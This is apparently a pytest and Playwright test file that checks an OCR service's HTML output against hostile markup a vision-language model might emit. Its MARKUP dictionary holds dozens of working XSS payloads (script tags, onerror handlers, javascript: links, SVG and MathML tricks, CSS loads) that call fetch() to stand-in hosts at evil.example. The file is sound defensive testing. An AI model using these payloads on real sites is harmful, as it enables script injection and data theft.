# SPDX-License-Identifier: Apache-2.0
"""Hostile documents in a real browser: whatever a page says, no request leaves and no script runs.

The texts are what a VLM can be made to write: markup that is printed on a page. Everything that the browser asks of
another host goes to a proxy that records and refuses it, also what no page sees: look-ups ahead, pings, reports.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, ProxySettings, expect

from tests.web.pages import WAIT_MS, page_of

JOBS = "/api/v2/ocr/jobs"
# Each reports to a host of its own, so that a finding names its line. {} is that host.
RUN = "fetch('https://{}.evil.example/ran');document.title='ran';window.ran='{}'"
MARKUP = {
    "script": "<script>RUN</script>",
    "script of a host": '<script src="https://HOST.evil.example/a.js"></script>',
    "module": '<script type="module">RUN</script>',
    "picture": '<img src="https://HOST.evil.example/a.png" srcset="https://HOST.evil.example/b.png 2x">',
    "markdown picture": "![x](https://HOST.evil.example/c.png)",
    "handler": '<img src=x onerror="RUN">',
    "svg": '<svg onload="RUN"><image href="https://HOST.evil.example/d.png"/><script>RUN</script></svg>',
    "svg animation": '<svg><a><animate attributeName=href values="javascript:RUN"/><text>x</text></a></svg>',
    "svg use": '<svg><use href="https://HOST.evil.example/e.svg#x"/></svg>',
    "style": "<style>@import url(https://HOST.evil.example/f.css); body{background:url(https://HOST.evil.example/g)}</style>",
    "style attribute": '<p style="background:url(https://HOST.evil.example/h)">x</p>',
    "style with an escape": '<p style="background:u\\rl(https://HOST.evil.example/i)">x</p>',
    "link": '<link rel=stylesheet href="https://HOST.evil.example/j.css"><link rel=prefetch href="https://HOST.evil.example/k">',
    "look-up ahead": '<link rel=dns-prefetch href="//HOST.evil.example"><link rel=preconnect href="https://HOST.evil.example">',
    "refresh": '<meta http-equiv=refresh content="0;url=https://HOST.evil.example/l">',
    "refresh to script": '<meta http-equiv=refresh content="0;url=javascript:RUN">',
    "base": '<base href="https://HOST.evil.example/"><img src=m.png>',
    "frame": '<iframe src="https://HOST.evil.example/n"></iframe>',
    "frame with a text": '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    "object": '<object data="https://HOST.evil.example/o"></object><embed src="https://HOST.evil.example/p">',
    "media": '<video src="https://HOST.evil.example/q" poster="https://HOST.evil.example/r"></video><audio autoplay src="https://HOST.evil.example/s"></audio>',
    "form": '<form action="https://HOST.evil.example/t"><input name=a><button>send</button></form>',
    "form with a button apart": '<form id=f action="https://HOST.evil.example/u"></form><button form=f>x</button>',
    "focus": '<button autofocus onfocus="RUN">x</button>',
    "javascript link": '<a href="javascript:RUN">one</a> [two](javascript:RUN)',
    "javascript link in disguise": '<a href="java&#10;script:RUN">x</a> <a href="&#1;javascript:RUN">y</a>',
    "data link": '<a href="data:text/html,<script>RUN</script>">x</a>',
    "ping": '<a href="#" ping="https://HOST.evil.example/v">x</a>',
    "mathml action": '<math><maction actiontype="statusline#x" xlink:href="javascript:RUN"><mi>x</mi></maction></math>',
    "mathml link": '<math href="javascript:RUN"><mi>x</mi></math>',
    "noscript confusion": '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
    "template": "<template><img src=x onerror=RUN></template>",
    "details": '<details open ontoggle="RUN">x</details>',
    "custom element": '<x-a onfocus="RUN" autofocus tabindex=1>x</x-a>',
    "clobbering": "<img name=querySelector><form id=body><input name=attributes></form>",
    "formula link": "$\\href{javascript:RUN}{x}$ $$\\url{javascript:RUN}$$",
    "formula picture": "$\\includegraphics{https://HOST.evil.example/w.png}$",
    "formula markup": "$\\text{<img src=x onerror=RUN>}$ \\(<script>RUN</script>\\)",
    "table": "<table background='https://HOST.evil.example/x'><tr><td><img src=x onerror='RUN'></td></tr></table>",
    "broken table": '| a |\n|---|\n| <img src="https://HOST.evil.example/y"> |',
    "mathml confusion": '<math><mtext><table><mglyph><style><!--</style><img src=x onerror="RUN">--></style></table>',
    "code": "```html\n</code></pre><script>RUN</script>\n```",
    "comment": "<!-- --!><script>RUN</script> -->",
    "plain text": "<plaintext><script>RUN</script>",
}


HIDING = 4  # of them; they stand last


def hostile() -> str:
    lines = ["# Hostile page", "first words"]
    for number, text in enumerate(MARKUP.values()):
        host = f"line-{number}"
        lines += [text.replace("RUN", RUN.replace("{}", host)).replace("HOST", host), f"word{number}."]
    return "\n\n".join(lines)


def check_all_was_shown(page: Page, within: str) -> None:
    """Each markup reached the page: what stands behind it is there. The last ones may hide what follows them."""
    expect(page.locator(within)).to_contain_text("first words")
    shown = page.locator(within).inner_text()
    hidden = [name for number, name in enumerate(MARKUP) if f"word{number}." not in shown]
    assert hidden == list(MARKUP)[len(MARKUP) - len(hidden) :] and len(hidden) <= HIDING, hidden


class Refusing(threading.Thread):
    """A proxy that lets nothing through; `asked` are the first lines of what came."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self._listening = socket.create_server(("127.0.0.1", 0))
        self.port = self._listening.getsockname()[1]
        self.asked: list[str] = []
        self.start()

    def run(self) -> None:
        while True:
            try:
                connection, _ = self._listening.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(10)
                try:
                    self.asked.append(connection.recv(4096).partition(b"\r\n")[0].decode("latin-1"))
                    connection.sendall(b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                except OSError:
                    continue

    def close(self) -> None:
        self._listening.close()

    @property
    def of_pages(self) -> list[str]:
        """What a page asked for; Chromium itself may ask its maker for things."""
        return [line for line in self.asked if "example" in line]


class Watched:
    """A context of the browser behind the proxy; `troubles` are dialogs, new windows and navigations away."""

    def __init__(self, browser: Browser, home: str) -> None:
        self.proxy = Refusing()
        self._home = home
        proxy = ProxySettings(server=f"http://127.0.0.1:{self.proxy.port}", bypass="127.0.0.1")
        self.context: BrowserContext = browser.new_context(proxy=proxy)
        self.context.set_default_timeout(WAIT_MS)
        self.troubles: list[str] = []

    def open(self, address: str) -> Page:
        page = self.context.new_page()
        page.on("dialog", self._dismiss)
        page.on("popup", lambda other: self.troubles.append(f"window {other.url}"))
        page.on("framenavigated", lambda frame: self._note(frame.url))
        page.on("request", lambda request: self._note(request.url))
        page.goto(address)
        return page

    def _dismiss(self, dialog: Dialog) -> None:
        self.troubles.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _note(self, url: str) -> None:
        if not url.startswith((self._home, "file:", "data:image/", "blob:", "about:blank")):
            self.troubles.append(url)

    def close(self) -> None:
        self.context.close()
        self.proxy.close()


@pytest.fixture
def watched(browser: Browser, service) -> Iterator[Watched]:
    found = Watched(browser, service.url)
    yield found
    found.close()


def click_everything(page: Page, within: str) -> None:
    """Every link and button that could do something, without waiting for what it may load."""
    page.evaluate(
        """within => document.querySelectorAll(`${within} :is(a, button, summary, [tabindex], [onclick], maction)`)
            .forEach(one => { if (!/^https?:/.test(one.getAttribute("href") || "")) one.click(); })""",
        within,
    )


def check_nothing_ran(watched: Watched, page: Page, title: str) -> None:
    # What was begun has ended: a round trip to the page, then one to the service.
    page.evaluate("() => new Promise(done => requestAnimationFrame(() => setTimeout(done, 200)))")
    assert page.evaluate("() => window.ran") is None
    assert page.title() == title
    assert watched.troubles == [] and watched.proxy.of_pages == []


def test_the_page_shows_a_hostile_document(watched: Watched, service, says, file):
    says(page_of(hostile()))
    page = watched.open(service.url + "/")
    title = page.title()
    page.set_input_files("#files", file())
    check_all_was_shown(page, ".row[aria-current] .prose")
    click_everything(page, ".row[aria-current] .prose")
    check_nothing_ran(watched, page, title)
    forbidden = (
        "script, style, link, meta, base, iframe, object, embed, form, svg image, svg use, video, audio, template"
    )
    assert (
        page.locator(".row[aria-current] .prose").locator(f":is({forbidden}), [onerror], [onload], [ping]").count() == 0
    )


def test_the_html_of_a_hostile_document(watched: Watched, service, says, file, tmp_path: Path):
    """A browser saves it instead of showing it; opened afterwards, the file has nothing but itself to protect it."""
    says(page_of(hostile()))
    job = service.job(Path(file()).read_bytes())
    assert service.ended(job)["state"] == "done"
    answer = service.client.get(f"{JOBS}/{job}/result?format=html")
    assert answer.headers["content-disposition"].startswith("attachment")
    assert "sandbox" in answer.headers["content-security-policy"]
    saved = tmp_path / "result.html"
    saved.write_bytes(answer.content)
    page = watched.open(saved.as_uri())
    check_all_was_shown(page, "body")
    click_everything(page, "body")
    check_nothing_ran(watched, page, page.title())
    assert page.locator("script, link, base, iframe, object, embed, form, [onerror], [onload]").count() == 0


def test_the_proxy_sees_what_a_page_without_protection_asks_for(watched: Watched, tmp_path: Path):
    """The measure itself: the same markup without sanitiser and policy runs, and its requests arrive here."""
    bare = tmp_path / "bare.html"
    bare.write_text("<title>bare</title><img src='http://line-1.evil.example/a.png'><script>window.ran='1'</script>")
    page = watched.open(bare.as_uri())
    assert page.evaluate("() => window.ran") == "1"
    assert any("line-1.evil.example" in line for line in watched.proxy.of_pages) and watched.troubles
